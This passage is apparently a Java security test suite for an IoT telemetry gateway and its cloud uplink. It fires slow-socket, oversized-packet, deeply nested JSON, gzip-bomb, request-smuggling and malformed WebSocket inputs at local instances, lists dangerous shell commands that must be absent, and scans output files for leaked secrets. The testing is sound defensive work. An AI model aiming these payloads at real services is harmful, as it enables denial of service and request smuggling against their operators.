    Mqtt5AsyncClient client = connect(ATTACKER, "signer", TOKENS.get("signer"));
    assertEquals(Mqtt5PubAckReasonCode.NOT_AUTHORIZED, publish(client, "devices/signer/telemetry", bodies[last - 1]));
    assertEquals(Mqtt5PubAckReasonCode.SUCCESS, publish(client, Mqtt5Publish.builder().topic("devices/signer/telemetry").qos(MqttQos.AT_LEAST_ONCE)
        .payload(bodies[last - 1].getBytes(StandardCharsets.UTF_8)).userProperties()
        .add("caravan-signature", signature("signer", "b", last - 1, bodies[last - 1])).applyUserProperties().build()));
    client.disconnect();
    assertEquals(List.of("2," + (last - 1) + "," + last), List.of(String.join(",", Store.rows(pair.gatewayDb,
        "SELECT device_seq FROM wal WHERE device_id = 'signer' ORDER BY device_seq"))));
  }

  @Test
  void slowClientsAreCut() throws Exception {
    List<Socket> slow = new ArrayList<>();
    try {
      for (int i = 0; i < 40; i++) {
        Socket header = Wire.connect("127.0.1.11", gateway.httpPort);
        header.getOutputStream().write("POST /ingest/attacker HTTP/1.1\r\nHost: x\r\nX-A: ".getBytes(StandardCharsets.US_ASCII));
        slow.add(header);
        Socket body = Wire.connect("127.0.1.11", gateway.httpPort);
        body.getOutputStream().write(("POST /ingest/attacker HTTP/1.1\r\nHost: x\r\n" + JSON + "\r\nAuthorization: Bearer " + TOKENS.get("attacker")
            + "\r\nContent-Length: 1000\r\n\r\n{").getBytes(StandardCharsets.US_ASCII));
        slow.add(body);
        Socket mqtt = Wire.connect("127.0.1.11", pair.mqttPort);
        mqtt.getOutputStream().write(new byte[] {0x10, 60, 0, 4, 'M', 'Q'});
        slow.add(mqtt);
        Socket tls = Wire.connect("127.0.1.11", mqttsPort);
        tls.getOutputStream().write(new byte[] {0x16, 3, 1});
        slow.add(tls);
        Socket uplink = Wire.connect("127.0.1.11", pair.uplinkPort);
        uplink.getOutputStream().write(new byte[] {0x16, 3, 1});
        slow.add(uplink);
      }
      // One that never stops talking, and never says anything.
      Socket trickle = Wire.connect("127.0.1.11", gateway.httpPort);
      slow.add(trickle);
      Thread dripping = new Thread(() -> {
        try {
          OutputStream out = trickle.getOutputStream();
          for (byte b : ("POST /ingest/attacker HTTP/1.1\r\nHost: x\r\nX-A: " + "a".repeat(10_000)).getBytes(StandardCharsets.US_ASCII)) {
            out.write(b);
            TimeUnit.MILLISECONDS.sleep(20);
          }
        } catch (IOException | InterruptedException cut) {
          // as it should be
        }
      });
      dripping.setDaemon(true);
      dripping.start();
      for (Socket socket : slow) {
        String said = new String(Wire.drain(socket), StandardCharsets.ISO_8859_1);
        assertFalse(said.contains("202"), said);
      }
    } finally {
      for (Socket socket : slow) {
        socket.close();
      }
    }
    assertTrue(metric(gateway, "caravan_http_refused_total{reason=\"header_timeout\"") >= 1, "counted");
    assertTrue(metric(gateway, "caravan_http_refused_total{reason=\"request_timeout\"") >= 1, "counted");
    assertTrue(metric(gateway, "caravan_mqtt_refused_total{.*reason=\"timeout\"") >= 1, "counted");
    assertTrue(metric(pair.cloud, "caravan_uplink_refused_total{reason=\"handshake_timeout\"") >= 1, "counted");
  }

  @Test
  void largeBodiesAreRefused() throws Exception {
    byte[] large = new byte[10 << 20];
    counted("caravan_http_refused_total{reason=\"too_large\"", 2, () -> {
      assertEquals(413, Wire.http(ATTACKER, gateway.httpPort, "POST /ingest/attacker HTTP/1.1", large, JSON, "Authorization: Bearer " + TOKENS.get("attacker")).status());
      ByteArrayOutputStream chunked = new ByteArrayOutputStream();
      for (int i = 0; i < 160; i++) {
        chunked.writeBytes("10000\r\n".getBytes(StandardCharsets.US_ASCII));
        chunked.writeBytes(new byte[0x10000]);
        chunked.writeBytes("\r\n".getBytes(StandardCharsets.US_ASCII));
      }
      chunked.writeBytes("0\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
      assertEquals(413, Wire.http(ATTACKER, gateway.httpPort, "POST /ingest/attacker HTTP/1.1", chunked.toByteArray(), JSON, "Transfer-Encoding: chunked",
          "Authorization: Bearer " + TOKENS.get("attacker")).status());
    });
    // Who may not send is told so before his body is read.
    assertUnauthorized(Wire.http("127.0.1.12", gateway.httpPort, "POST /ingest/attacker HTTP/1.1", large, JSON));
  }

  @Test
  void largePacketsEndTheConnection() throws Exception {
    try (Socket socket = Wire.connect(ATTACKER, pair.mqttPort)) {
      assertEquals(0, Wire.mqttConnack(socket, Wire.mqttConnect("large", "attacker", TOKENS.get("attacker"))));
      writeUnlessCut(socket, 0x32, 10 << 20);
      assertNotEquals(0x40, first(Wire.drain(socket)) & 0xf0, "no PUBACK");
    }
    // Before anybody is recognised there is even less room; and properties count as well.
    for (int type : new int[] {0x10, 0x32, 0xf0}) {
      try (Socket socket = Wire.connect(ATTACKER, pair.mqttPort)) {
        writeUnlessCut(socket, type, 10 << 20);
        assertNotEquals(0x20, first(Wire.drain(socket)));
      }
    }
    assertTrue(metric(gateway, "caravan_mqtt_refused_total{.*reason=\"(too_large|malformed|protocol)\"") >= 1, "counted");
  }

  @Test
  void badBodiesAreAnsweredAndKeptUnderTheirReason() throws Exception {
    String deep = "{\"schema_version\":1,\"metrics\":" + "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_001);
    counted("caravan_ingest_rejected_total{.*reason=\"too_deep\"", 2, () -> {
      assertRejected(400, "too_deep", post(ATTACKER, "attacker", TOKENS.get("attacker"), deep));
      assertRejected(400, "too_deep", post(ATTACKER, "attacker", TOKENS.get("attacker"), "[".repeat(10_000) + "]".repeat(10_000)));
    });
    // Groups in groups, the same for Protobuf.
    byte[] groups = new byte[20_000];
    for (int i = 0; i < groups.length; i++) {
      groups[i] = (byte) (i < groups.length / 2 ? 0x7b : 0x7c);
    }
    counted("caravan_ingest_rejected_total{.*reason=\"(malformed_protobuf|too_deep|schema_violation)\"", 1, () -> {
      Wire.Answer answer = Wire.http(ATTACKER, gateway.httpPort, "POST /ingest/attacker HTTP/1.1", groups, "Content-Type: application/x-protobuf",
          "Authorization: Bearer " + TOKENS.get("attacker"));
      assertEquals(400, answer.status(), answer::body);
    });
    assertTrue(Store.number(pair.gatewayDb, "SELECT count(*) FROM rejected WHERE device_id = 'attacker' AND reason = 'too_deep'") >= 2);
  }

  @Test
  void gzipDoesNotExplode() throws Exception {
    byte[] bomb = gzip(new byte[64 << 20]);
    assertTrue(bomb.length < 100_000, () -> "small outside: " + bomb.length);
    counted("caravan_http_refused_total{reason=\"inflated_too_large\"", 1, () -> {
      Wire.Answer answer = Wire.http(ATTACKER, gateway.httpPort, "POST /ingest/attacker HTTP/1.1", bomb, JSON, "Content-Encoding: gzip",
          "Authorization: Bearer " + TOKENS.get("attacker"));
      assertEquals(413, answer.status(), answer::body);
    });
    counted("caravan_http_refused_total{reason=\"content_encoding\"", 2, () -> {
      assertEquals(415, Wire.http(ATTACKER, gateway.httpPort, "POST /ingest/attacker HTTP/1.1", gzip(bomb), JSON, "Content-Encoding: gzip, gzip",
          "Authorization: Bearer " + TOKENS.get("attacker")).status());
      assertEquals(415, Wire.http(ATTACKER, gateway.httpPort, "POST /ingest/attacker HTTP/1.1", "no gzip".getBytes(StandardCharsets.US_ASCII), JSON,
          "Content-Encoding: gzip", "Authorization: Bearer " + TOKENS.get("attacker")).status());
    });
    assertEquals(202, Wire.http(ATTACKER, gateway.httpPort, "POST /ingest/attacker HTTP/1.1", gzip(telemetry(300).getBytes(StandardCharsets.UTF_8)), JSON,
        "Content-Encoding: gzip", "Authorization: Bearer " + TOKENS.get("attacker")).status(), "gzip as such is taken");
    // The cloud unpacks what its gateways send: an authenticated one must not blow it up either.
    for (byte[] batch : List.of(bomb, gzip(("{\"rows\":" + "[".repeat(10_000) + "]".repeat(10_000) + "}").getBytes(StandardCharsets.UTF_8)), "no gzip".getBytes(StandardCharsets.US_ASCII))) {
      counted(pair.cloud, "caravan_uplink_refused_total{reason=\"bad_frame\"", 1, () -> {
        try (Uplink uplink = new Uplink("evil", Files.readString(pair.folder.resolve("evil.token")))) {
          uplink.text("{\"type\":\"hello\",\"protocol\":\"caravan.v1\",\"gateway_id\":\"evil\",\"log_id\":\"l\",\"version\":\"0\",\"time_ms\":0,\"ranges\":[]}");
          assertEquals("welcome", uplink.next().path("type").asText());
          uplink.frame(0x2, batch);
          JsonNode answer = uplink.next();
          assertEquals("error", answer.path("type").asText(), answer::toString);
          assertEquals("bad_frame", answer.path("reason").asText(), answer::toString);
        }
      });
    }
    // Longer than any frame may be.
    try (Uplink uplink = new Uplink("evil", Files.readString(pair.folder.resolve("evil.token")))) {
      uplink.announce(0x2, 1L << 32);
      Wire.drain(uplink.socket);
    }
    assertEquals(200, pair.cloud.status("/readyz"));
  }

  @Test
  void requestsCannotBeSmuggled() throws Exception {
    String auth = "Authorization: Bearer " + TOKENS.get("attacker");
    for (String[] headers : new String[][] {
        {"Content-Length: 4", "Transfer-Encoding: chunked"}, {"Content-Length: 4", "Content-Length: 5"}, {"Transfer-Encoding: chunked, identity"},
        {"Transfer-Encoding: xchunked"}, {"Content-Length: +4"}, {"Content-Length: -1"}, {"Content-Length : 4"}}) {
      List<String> all = new ArrayList<>(List.of(JSON, auth));
      all.addAll(List.of(headers));
      try (Socket socket = Wire.connect(ATTACKER, gateway.httpPort)) {
        socket.getOutputStream().write(("POST /ingest/attacker HTTP/1.1\r\nHost: x\r\n" + String.join("\r\n", all)
            + "\r\n\r\n0\r\n\r\nGET /metrics HTTP/1.1\r\nHost: x\r\n\r\n").getBytes(StandardCharsets.ISO_8859_1));
        String said = new String(Wire.drain(socket), StandardCharsets.ISO_8859_1);
        assertTrue(said.startsWith("HTTP/1.1 400"), () -> String.join(", ", headers) + ": " + said);
        assertFalse(said.contains("caravan_"), "a second request was answered");
      }
    }
  }

  // ---- what is there

  @Test
  void nothingListensThatWasNotAskedFor() throws Exception {
    assertEquals(Set.of("127.0.0.1:" + gateway.httpPort, "127.0.0.1:" + pair.mqttPort, "127.0.0.1:" + mqttsPort), listeners(gateway));
    assertEquals(Set.of("127.0.0.1:" + pair.cloud.httpPort, "127.0.0.1:" + pair.uplinkPort), listeners(pair.cloud));
  }

  @ParameterizedTest
  @ValueSource(strings = {"jdbc:ds-create -url jdbc:sqlite:/tmp/x evil", "jdbc:ds-list", "instance:create --java-opts -Xmx1m evil", "ssh:sshd", "ssh:ssh localhost",
      "jaas:realm-list", "http:list", "web:install file:/x", "obr:deploy x", "groovy:exec 1", "kar:install file:/tmp/x.kar", "config:edit x",
      "jndi:bind a b", "wrapper:install", "scheduler:list"})
  void dangerousCommandsAreAbsent(String command) {
    for (Distribution side : List.of(gateway, pair.cloud)) {
      AssertionError e = assertThrows(AssertionError.class, () -> side.shell(command), side.side + " has " + command);
      assertFalse(e.getMessage().contains("uid="), e::getMessage);
    }
  }

  // ---- and at the end

  @Test
  @Order(Integer.MAX_VALUE - 1)
  void othersWereNotDisturbed() throws Exception {
    for (Steady steady : STEADY) {
      steady.stop = true;
      steady.join(60_000);
      assertFalse(steady.isAlive(), steady.id + " waits for an answer");
      assertEquals(List.of(), List.copyOf(steady.problems), steady.id);
      assertTrue(steady.acked > 20, steady.id + " sent " + steady.acked);
      assertEquals(List.of(steady.acked + "," + steady.acked + ",1," + steady.acked), Store.rows(pair.gatewayDb,
          "SELECT count(*), count(DISTINCT device_seq), min(device_seq), max(device_seq) FROM wal WHERE device_id = '" + steady.id + "'"));
      await(steady.id + "'s messages at the sink").atMost(SOON).pollInterval(Duration.ofMillis(200)).until(() -> Store.number(pair.gatewayDb,
          "SELECT count(*) FROM message_status WHERE device_id = '" + steady.id + "' AND sink = 'analytics' AND status = 'Acked'") == steady.acked);
    }
    for (Distribution side : List.of(gateway, pair.cloud)) {
      assertEquals(200, side.status("/readyz"), () -> side.side + " " + side.console());
      assertEquals(List.of(), side.errors(), side.side);
    }
    assertEquals(0, TRAPPED.get());
  }

  @Test
  @Order(Integer.MAX_VALUE)
  void noSecretIsInAnythingThatWasWritten() throws Exception {
    String bundle = gateway.home.resolve("data/bundle.zip").toString();
    gateway.shell("gateway:bundle " + bundle);
    gateway.shell("config:list");
    assertEquals(0, gateway.stop(), gateway::console);
    assertEquals(0, pair.cloud.stop(), pair.cloud::console);
    assertTrue(SECRETS.size() > 20, "nothing to look for");
    List<Path> own = List.of(certs, otherCerts, pair.folder.resolve("gateway.token"), pair.folder.resolve("evil.token"), pair.folder.resolve("cert-revoked.key"));
    List<String> found = new ArrayList<>();
    int[] looked = {0};
    for (Path root : List.of(gateway.home, pair.cloud.home, pair.folder)) {
      try (Stream<Path> files = Files.walk(root)) {
        for (Path file : files.filter(Files::isRegularFile).filter(f -> !f.startsWith(gateway.home.resolve("system")) && !f.startsWith(pair.cloud.home.resolve("system")))
            .filter(f -> !f.toString().endsWith(".jar") && own.stream().noneMatch(f::startsWith)).toList()) {
          // What device:add prints is where the token is shown, once: the shell's answer is the operator's.
          if (ENROLMENTS.contains(file)) {
            continue;
          }
          looked[0]++;
          String text = file.toString().endsWith(".zip") ? unzip(file) : Files.readString(file, StandardCharsets.ISO_8859_1);
          SECRETS.stream().filter(text::contains).forEach(s -> found.add(file + " has " + s.substring(0, Math.min(8, s.length())) + "..."));
        }
      }
    }
    assertTrue(looked[0] > 20, "looked into " + looked[0] + " files");
    assertEquals(List.of(), found);
    // The search itself finds what is there.
    assertTrue(Files.readString(pair.folder.resolve("gateway.token")).lines().anyMatch(SECRETS::contains));
    assertTrue(SECRETS.containsAll(TOKENS.values()));
  }

  // ---- helpers

  private static final Set<Path> ENROLMENTS = new HashSet<>();
  private static final Pattern TOKEN = Pattern.compile("cvn_[A-Za-z0-9_-]{43}");

  /** Enrols a device as an operator does, and keeps what its board would be given. */
  private static void enrol(String id, String options) throws IOException {
    Set<Path> before = shells();
    String printed = gateway.shell("device:add " + id + " " + options);
    shells().stream().filter(p -> !before.contains(p)).forEach(ENROLMENTS::add);
    Matcher token = TOKEN.matcher(printed);
    assertTrue(token.find(), printed);
    TOKENS.put(id, keep(token.group()));
    byte[] key = hmac(token.group().getBytes(StandardCharsets.US_ASCII), "caravan message signature v1".getBytes(StandardCharsets.US_ASCII));
    String base64 = keep(Base64.getUrlEncoder().withoutPadding().encodeToString(key));
    keep(hex(key));
    assertTrue(printed.contains(base64) == options.contains("--signing"), "the signing key that the board is given is the one of the contract");
  }

  private static Set<Path> shells() throws IOException {
    try (Stream<Path> files = Files.list(gateway.home)) {
      return new HashSet<>(files.filter(f -> f.getFileName().toString().startsWith("shell-")).toList());
    }
  }

  private static String keep(String secret) {
    SECRETS.add(secret);
    return secret;
  }

  private static String telemetry(int seq) {
    return "{\"schema_version\":1,\"boot_id\":\"b1\",\"device_seq\":" + seq + ",\"metrics\":{\"t\":" + seq + "}}";
  }

  private static Wire.Answer post(String from, String path, String token, String body, String... headers) throws IOException {
    List<String> all = new ArrayList<>(List.of(JSON));
    if (token != null) {
      all.add("Authorization: Bearer " + token);
    }
    all.addAll(List.of(headers));
    return Wire.http(from, gateway.httpPort, "POST /ingest/" + path + " HTTP/1.1", body.getBytes(StandardCharsets.UTF_8), all.toArray(String[]::new));
  }

  private static Wire.Answer assertUnauthorized(Wire.Answer answer) {
    assertEquals(401, answer.status(), answer::toString);
    assertEquals("Bearer", answer.headers().get("WWW-Authenticate"));
    assertTrue(answer.body().startsWith("{\"error\":\"unauthorized\""), answer::body);
    return answer;
  }

  private static void assertRejected(int status, String reason, Wire.Answer answer) {
    assertEquals(status, answer.status(), answer::toString);
    assertTrue(answer.body().contains("\"reason\":\"" + reason + "\""), answer::body);
  }

  private static Mqtt5ClientBuilder client(String from, String id, String token) {
    return Mqtt5Client.builder().identifier(id + "-" + System.nanoTime()).serverHost("127.0.0.1").serverPort(pair.mqttPort)
        .transportConfig().localAddress(new InetSocketAddress(from, 0)).serverHost("127.0.0.1").serverPort(pair.mqttPort).applyTransportConfig()
        .simpleAuth().username(id).password(token.getBytes(StandardCharsets.UTF_8)).applySimpleAuth();
  }

  private static Mqtt5AsyncClient connect(String from, String id, String token) throws Exception {
    Mqtt5AsyncClient client = client(from, id, token).buildAsync();
    client.connect().get(Device.WAIT_SECONDS, TimeUnit.SECONDS);
    return client;
  }

  private static Mqtt5PubAckReasonCode publish(Mqtt5AsyncClient client, String topic, String json) throws Exception {
    return publish(client, Mqtt5Publish.builder().topic(topic).qos(MqttQos.AT_LEAST_ONCE).payload(json.getBytes(StandardCharsets.UTF_8)).build());
  }

  private static Mqtt5PubAckReasonCode publish(Mqtt5AsyncClient client, Mqtt5Publish publish) throws Exception {
    try {
      return ((Mqtt5PublishResult.Mqtt5Qos1Result) client.publish(publish).get(Device.WAIT_SECONDS, TimeUnit.SECONDS)).getPubAck().getReasonCode();
    } catch (ExecutionException e) {
      if (e.getCause() instanceof Mqtt5PubAckException refused) {
        return refused.getMqttMessage().getReasonCode();
      }
      throw e;
    }
  }

  /** Whether the listener with TLS lets somebody with this certificate in. @param id null: without a certificate */
  private static boolean accepted(String id, Path folder) throws Exception {
    var context = Wire.tls(certs.resolve("ca.crt"), id == null ? null : folder.resolve(id + ".crt"), id == null ? null : folder.resolve(id + ".key"));
    try (SSLSocket socket = Wire.secure(context, Wire.connect(ATTACKER, mqttsPort))) {
      return Wire.mqttConnack(socket, Wire.mqttConnect("tls-" + id, id, null)) == 0;
    } catch (javax.net.ssl.SSLException | SocketException refused) {
      return false;
    }
  }

  private static Mqtt5PubAckReasonCode publishWith(String id, Path folder) throws Exception {
    Mqtt5AsyncClient client = mtls(id, folder).buildAsync();
    client.connect().get(Device.WAIT_SECONDS, TimeUnit.SECONDS);
    try {
      return publish(client, "devices/" + id + "/telemetry", telemetry(1));
    } finally {
      client.disconnect();
    }
  }

  private static Mqtt5ClientBuilder mtls(String id, Path folder) throws Exception {
    return Mqtt5Client.builder().identifier(id).serverHost("localhost").serverPort(mqttsPort).sslConfig(MqttClientSslConfig.builder()
        .trustManagerFactory(Wire.trust(certs.resolve("ca.crt"))).keyManagerFactory(Wire.keys(folder.resolve(id + ".crt"), folder.resolve(id + ".key"))).build());
  }

  private static void expiredCertificate(String cn) throws Exception {
    Path ext = Files.writeString(pair.folder.resolve("expired.ext"), "basicConstraints = critical,CA:FALSE\nkeyUsage = critical,digitalSignature\n"
        + "extendedKeyUsage = clientAuth\nsubjectKeyIdentifier = hash\nauthorityKeyIdentifier = keyid\n");
    String dir = certs.toString();
    openssl("genpkey", "-algorithm", "EC", "-pkeyopt", "ec_paramgen_curve:P-256", "-out", dir + "/" + cn + ".key");
    openssl("req", "-new", "-subj", "/CN=" + cn, "-key", dir + "/" + cn + ".key", "-out", dir + "/" + cn + ".csr");
    openssl("ca", "-batch", "-notext", "-config", dir + "/ca.cnf", "-extfile", ext.toString(), "-startdate", "20240101000000Z", "-enddate", "20240201000000Z",
        "-in", dir + "/" + cn + ".csr", "-out", dir + "/" + cn + ".crt");
  }

  private static void openssl(String... arguments) {
    List<String> command = Stream.concat(Stream.of("openssl"), Stream.of(arguments)).toList();
    Child child = Child.start("openssl", command, Map.of(), pair.folder, pair.folder.resolve("openssl.log"));
    if (child.awaitExit(Duration.ofSeconds(60)) != 0) {
      throw new AssertionError(command + ": " + child.output());
    }
  }

  /** A ClientHello that offers this version and none else. */
  private static byte[] clientHello(int version) {
    ByteArrayOutputStream hello = new ByteArrayOutputStream();
    hello.write(version >> 8);
    hello.write(version);
    hello.writeBytes(new byte[32]);
    hello.write(0);
    // ECDHE-ECDSA and -RSA with AES, for each version
    byte[] suites = {(byte) 0xc0, 0x2b, (byte) 0xc0, 0x2f, (byte) 0xc0, 0x0a, (byte) 0xc0, 0x09, (byte) 0xc0, 0x14, (byte) 0xc0, 0x13, 0, 0x2f};
    hello.write(0);
    hello.write(suites.length);
    hello.writeBytes(suites);
    hello.write(1);
    hello.write(0);
    // groups P-256; point format uncompressed; signatures ECDSA with SHA-256, RSA with SHA-256, ECDSA with SHA-1
    byte[] extensions = {0, 10, 0, 4, 0, 2, 0, 23, 0, 11, 0, 2, 1, 0, 0, 13, 0, 8, 0, 6, 4, 3, 4, 1, 2, 3};
    hello.write(0);
    hello.write(extensions.length);
    hello.writeBytes(extensions);
    ByteArrayOutputStream record = new ByteArrayOutputStream();
    record.writeBytes(new byte[] {0x16, 3, (byte) (version == 0x0300 ? 0 : 1), 0, (byte) (hello.size() + 4), 1, 0, 0, (byte) hello.size()});
    record.writeBytes(hello.toByteArray());
    return record.toByteArray();
  }

  /** The answer to a WebSocket handshake. @param token null: none */
  private static Wire.Answer upgrade(String path, String token, String protocol) throws Exception {
    try (SSLSocket socket = Wire.secure(Wire.tls(certs.resolve("ca.crt"), null, null), Wire.connect("127.0.2.1", pair.uplinkPort))) {
      socket.getOutputStream().write(handshake(path, token, protocol));
      return Wire.Answer.read(socket.getInputStream());
    }
  }

  private static byte[] handshake(String path, String token, String protocol) {
    return ("GET " + path + " HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
        + "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Protocol: " + protocol + "\r\n"
        + (token == null ? "" : "Authorization: Bearer " + token + "\r\n") + "\r\n").getBytes(StandardCharsets.ISO_8859_1);
  }

  /** A WebSocket of a gateway, by hand. */
  private static final class Uplink implements AutoCloseable {
    private final SSLSocket socket;

    Uplink(String id, String token) throws Exception {
      this(id, token, "caravan.v1");
    }

    Uplink(String id, String token, String protocol) throws Exception {
      socket = Wire.secure(Wire.tls(certs.resolve("ca.crt"), null, null), Wire.connect("127.0.2.2", pair.uplinkPort));
      socket.getOutputStream().write(handshake("/uplink/" + id, token, protocol));
      Wire.Answer answer = Wire.Answer.read(socket.getInputStream());
      assertEquals(101, answer.status(), answer::toString);
    }

    void text(String text) throws IOException {
      frame(0x1, text.getBytes(StandardCharsets.UTF_8));
    }

    void frame(int opcode, byte[] payload) throws IOException {
      announce(opcode, payload.length);
      // masked with zeros: as it is
      socket.getOutputStream().write(payload);
      socket.getOutputStream().flush();
    }

    /** Only the head of a frame. */
    void announce(int opcode, long length) throws IOException {
      ByteArrayOutputStream head = new ByteArrayOutputStream();
      head.write(0x80 | opcode);
      int bytes = length < 126 ? 0 : length < 65_536 ? 2 : 8;
      head.write(0x80 | (bytes == 0 ? (int) length : bytes == 2 ? 126 : 127));
      for (int shift = 8 * (bytes - 1); shift >= 0; shift -= 8) {
        head.write((int) (length >> shift) & 0xff);
      }
      head.writeBytes(new byte[4]);
      socket.getOutputStream().write(head.toByteArray());
      socket.getOutputStream().flush();
    }

    /** The next text. */
    JsonNode next() throws IOException {
      while (true) {
        int opcode = socket.getInputStream().read();
        int length = socket.getInputStream().read();
        if (opcode < 0 || length < 0) {
          throw new IOException("the connection was closed");
        }
        int bytes = length < 126 ? length : length == 126 ? (socket.getInputStream().read() << 8) + socket.getInputStream().read() : -1;
        byte[] payload = socket.getInputStream().readNBytes(bytes);
        if ((opcode & 0xf) == 1) {
          return new ObjectMapper().readTree(payload);
        }
      }
    }

    @Override
    public void close() throws IOException {
      socket.close();
    }
  }

  private static byte[] gzip(byte[] bytes) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(out)) {
      gzip.write(bytes);
    }
    return out.toByteArray();
  }

  /** A packet of this length, as far as the peer takes it. */
  private static void writeUnlessCut(Socket socket, int type, int length) {
    try {
      OutputStream out = socket.getOutputStream();
      out.write(type);
      out.write(Wire.length(length));
      for (int i = 0; i < length; i += 65_536) {
        out.write(new byte[65_536]);
      }
    } catch (IOException cut) {
      // the peer has seen enough
    }
  }

  private static int remaining(Socket socket) throws IOException {
    return Wire.drain(socket).length;
  }

  private static int first(byte[] bytes) {
    return bytes.length == 0 ? -1 : bytes[0] & 0xff;
  }

  private static String[] with(String[] headers, String more) {
    return Stream.concat(Stream.of(headers), Stream.of(more)).toArray(String[]::new);
  }

  private static byte[] sha256(String text) throws Exception {
    return java.security.MessageDigest.getInstance("SHA-256").digest(text.getBytes(StandardCharsets.UTF_8));
  }

  private static String hex(byte[] bytes) {
    return HexFormat.of().formatHex(bytes);
  }

  private static byte[] hmac(byte[] key, byte[] text) {
    try {
      Mac mac = Mac.getInstance("HmacSHA256");
      mac.init(new SecretKeySpec(key, "HmacSHA256"));
      return mac.doFinal(text);
    } catch (java.security.GeneralSecurityException e) {
      throw new IllegalStateException(e);
    }
  }

  private static String signature(String id, String boot, int seq, String body) {
    byte[] key = hmac(TOKENS.get(id).getBytes(StandardCharsets.US_ASCII), "caravan message signature v1".getBytes(StandardCharsets.US_ASCII));
    return "v1=" + hex(hmac(key, ("devices/" + id + "/telemetry\n" + boot + "\n" + seq + "\n" + body).getBytes(StandardCharsets.UTF_8)));
  }

  /** What all series that match add up to. @param series regular expression for the beginning of a line */
  private static double metric(Distribution side, String series) throws IOException {
    Pattern pattern = Pattern.compile("^" + series.replace("{", "\\{") + ".*", Pattern.MULTILINE);
    Matcher m = pattern.matcher(side.get("/metrics").body());
    double sum = 0;
    while (m.find()) {
      sum += Double.parseDouble(m.group().substring(m.group().lastIndexOf(' ') + 1));
    }
    return sum;
  }

  private interface Attack {
    void run() throws Exception;
  }

  private static void counted(String series, int atLeast, Attack attack) throws Exception {
    counted(gateway, series, atLeast, attack);
  }

  /** The attack is counted, that often or more: others may be refused for the same reason meanwhile. */
  private static void counted(Distribution side, String series, int atLeast, Attack attack) throws Exception {
    double before = metric(side, series);
    attack.run();
    await(series).atMost(SOON).pollInterval(Duration.ofMillis(100)).until(() -> metric(side, series) >= before + atLeast);
  }

  private static List<JsonNode> audit(String action, String subject) throws IOException {
    List<JsonNode> found = new ArrayList<>();
    for (String line : Files.readAllLines(gateway.home.resolve("data/audit/audit.log"))) {
      JsonNode entry = new ObjectMapper().readTree(line);
      if (entry.path("action").asText().startsWith(action) && (subject == null || entry.path("subject").asText().equals(subject))) {
        found.add(entry);
      }
    }
    return found;
  }

  private static List<Path> files(Path root, String part) throws IOException {
    try (Stream<Path> all = Files.walk(root)) {
      return all.filter(p -> p.getFileName().toString().contains(part)).toList();
    }
  }

  private static String unzip(Path file) throws IOException {
    StringBuilder text = new StringBuilder();
    try (var zip = new java.util.zip.ZipFile(file.toFile())) {
      for (var entry : java.util.Collections.list(zip.entries())) {
        text.append(new String(zip.getInputStream(entry).readAllBytes(), StandardCharsets.ISO_8859_1));
      }
    }
    return text.toString();
  }

  /** TCP sockets of the process that listen, as address:port. */
  private static Set<String> listeners(Distribution side) throws IOException {
    Set<String> inodes = new HashSet<>();
    try (Stream<Path> fds = Files.list(Path.of("/proc/" + side.pid() + "/fd"))) {
      for (Path fd : fds.toList()) {
        try {
          String target = Files.readSymbolicLink(fd).toString();
          if (target.startsWith("socket:[")) {
            inodes.add(target.substring(8, target.length() - 1));
          }
        } catch (IOException closed) {
          // meanwhile
        }
      }
    }
    Set<String> listening = new TreeSet<>();
    for (String table : List.of("tcp", "tcp6")) {
      for (String line : Files.readAllLines(Path.of("/proc/" + side.pid() + "/net/" + table))) {
        String[] columns = line.trim().split("\\s+");
        if (columns[3].equals("0A") && inodes.contains(columns[9])) {
          String[] local = columns[1].split(":");
          String ip = local[0].length() == 8 ? String.join(".", bytes(local[0], 0)) : local[0].startsWith("0000000000000000FFFF0000")
              ? String.join(".", bytes(local[0], 24)) : local[0];
          listening.add(ip + ":" + Integer.parseInt(local[1], 16));
        }
      }
    }
    return listening;
  }

  /** The kernel writes an IPv4 address as a number in the order of this machine, lowest byte first. */
  private static List<String> bytes(String hex, int from) {
    List<String> bytes = new ArrayList<>();
    for (int i = from + 6; i >= from; i -= 2) {
      bytes.add(Integer.toString(Integer.parseInt(hex.substring(i, i + 2), 16)));
    }
    return bytes;
  }

  private record HttpAnswer(int status, String body) {
    HttpAnswer(java.net.http.HttpResponse<String> response) {
      this(response.statusCode(), response.body());
    }
  }

  /** A device that does what it should, all the time. */
  private static final class Steady extends Thread {
    private final String id;
    private final Work work;
    final ConcurrentLinkedQueue<String> problems = new ConcurrentLinkedQueue<>();
    volatile boolean stop;
    volatile int acked;

    interface Work {
      void run(Steady self) throws Exception;
    }

    Steady(String id, Work work) {
      super(id);
      this.id = id;
      this.work = work;
      setDaemon(true);
    }

    @Override
    public void run() {
      try {
        work.run(this);
      } catch (Exception e) {
        problems.add("after " + acked + ": " + e + " " + e.getCause());
      }
    }

    private void overMqtt() throws Exception {
      publishAll(client("127.0.0.1", id, TOKENS.get(id)));
    }

    private void overMtls() throws Exception {
      publishAll(mtls(id, certs));
    }

    private void publishAll(Mqtt5ClientBuilder builder) throws Exception {
      Mqtt5AsyncClient client = builder.addDisconnectedListener(c -> {
        if (!stop) {
          problems.add("disconnected after " + acked + ": " + c.getCause());
        }
      }).buildAsync();
      client.connect().get(Device.WAIT_SECONDS, TimeUnit.SECONDS);
      while (!stop) {
        Mqtt5PubAckReasonCode code = publish(client, "devices/" + id + "/telemetry", telemetry(acked + 1));
        if (code != Mqtt5PubAckReasonCode.SUCCESS) {
          problems.add(acked + 1 + ": " + code);
          return;
        }
        acked++;
        TimeUnit.MILLISECONDS.sleep(20);
      }
      client.disconnect().get(Device.WAIT_SECONDS, TimeUnit.SECONDS);
    }

    private void overHttp() throws Exception {
      while (!stop) {
        Wire.Answer answer = post("127.0.0.1", id, TOKENS.get(id), telemetry(acked + 1));
        if (answer.status() != 202 || !answer.body().contains("\"durable\"")) {
          problems.add(acked + 1 + ": " + answer);
          return;
        }
        acked++;
        TimeUnit.MILLISECONDS.sleep(20);
      }
    }
  }
}
